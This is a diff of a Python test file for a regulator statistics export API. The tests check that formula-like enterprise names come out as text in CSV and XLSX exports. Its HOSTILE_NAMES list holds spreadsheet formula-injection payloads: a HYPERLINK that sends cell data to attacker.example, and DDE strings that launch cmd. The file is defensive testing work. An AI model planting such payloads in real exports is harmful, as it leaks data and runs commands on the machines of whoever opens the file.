@@ -13,12 +13,13 @@ from app.domain.clock import today_in_china
 from tests.app.conftest import Shop, regulator
 
 REG = "/api/v1/regulator"
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 HOSTILE_NAMES = [
     '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")',
     "+cmd|' /C calc'!A0",
     "@SUM(1)",
     "-2+3+cmd|' /C calc'!A0",
-    "\uff1dHYPERLINK(\"http://attacker.example\")",
+    '\uff1dHYPERLINK("http://attacker.example")',
 ]
 REGION = "320902"  # 亭湖区 (盐城): no other test makes enterprises in that city
 
@@ -36,8 +37,12 @@ def test_enterprise_names_cannot_plant_formulas_in_csv_exports(client, hostile_r
     today = today_in_china()
     r = client.get(
         f"{REG}/statistics/export",
-        params={"start": (today - timedelta(days=30)).isoformat(), "end": today.isoformat(),
-                "format": "csv", "table": "by_enterprise"},
+        params={
+            "start": (today - timedelta(days=30)).isoformat(),
+            "end": today.isoformat(),
+            "format": "csv",
+            "table": "by_enterprise",
+        },
         headers=hostile_region.headers,
     )
     assert r.status_code == 200, r.text
@@ -47,14 +52,18 @@ def test_enterprise_names_cannot_plant_formulas_in_csv_exports(client, hostile_r
         assert "'" + name in names  # the leading quote makes it text in Excel, WPS, LibreOffice
     for row in rows:
         for cell in row:
-            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
+            assert not cell.startswith(FORMULA_START)
 
 
 def test_enterprise_names_cannot_plant_formulas_in_xlsx_exports(client, hostile_region):
     today = today_in_china()
     r = client.get(
         f"{REG}/statistics/export",
-        params={"start": (today - timedelta(days=30)).isoformat(), "end": today.isoformat(), "format": "xlsx"},
+        params={
+            "start": (today - timedelta(days=30)).isoformat(),
+            "end": today.isoformat(),
+            "format": "xlsx",
+        },
         headers=hostile_region.headers,
     )
     assert r.status_code == 200, r.text
